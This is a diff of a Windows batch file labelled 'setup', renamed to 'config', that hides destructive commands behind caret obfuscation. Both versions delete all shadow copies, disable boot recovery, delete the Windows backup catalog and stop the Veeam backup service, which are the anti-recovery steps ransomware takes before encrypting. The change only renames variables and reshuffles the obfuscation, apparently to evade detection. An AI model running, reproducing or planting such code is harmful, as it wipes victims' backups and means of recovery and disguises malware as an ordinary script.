@@ -1,19 +1,19 @@
-REM setup 4310 v1
+REM config 7228 v1
 @echo off
-set "apvg=v^ss^admi^n ^d^el^et^e ^s^ha^do^ws /a^ll /^qu^iet"
-call %apvg%
+set cpll=^vss^a^dm^in del^et^e ^sh^adow^s /al^l /qu^i^et
+call %cpll%
 @echo off
-set "uead=w^m^ic s^hadowco^py ^d^ele^t^e"
-call %uead%
+set vgpz=wm^i^c ^s^h^a^do^w^cop^y delete
+call %vgpz%
 @echo off
-set "rrys=^bcd^e^d^it /^set {d^e^f^a^u^lt} ^r^ec^ove^ry^en^abled ^n^o"
-call %rrys%
+set wwfw=^bcd^e^di^t /^se^t {^d^efaul^t} r^e^co^ver^ye^n^abl^e^d ^no
+call %wwfw%
 @echo off
-set "rxxp=bcde^d^i^t /s^et {^default} ^bootstat^u^s^p^o^l^i^cy ^i^g^nor^e^al^lf^a^i^lu^re^s"
-call %rxxp%
+set ahvr=b^c^dedi^t /set {defa^u^l^t} bo^o^t^s^t^at^u^s^po^li^c^y ^i^g^noreal^l^fai^lu^r^es
+call %ahvr%
 @echo off
-set "vekf=w^b^a^dmin de^let^e ^c^a^tal^og -^qu^iet"
-call %vekf%
+set mpkj=^wb^admin del^e^te ^cat^alo^g -^quie^t
+call %mpkj%
 @echo off
-set "gofa=ne^t st^o^p "Veeam Backup Catalog Data Service" /y"
-call %gofa%
+set ydaz=^n^e^t ^s^top "Veeam Backup Catalog Data Service" /^y
+call %ydaz%
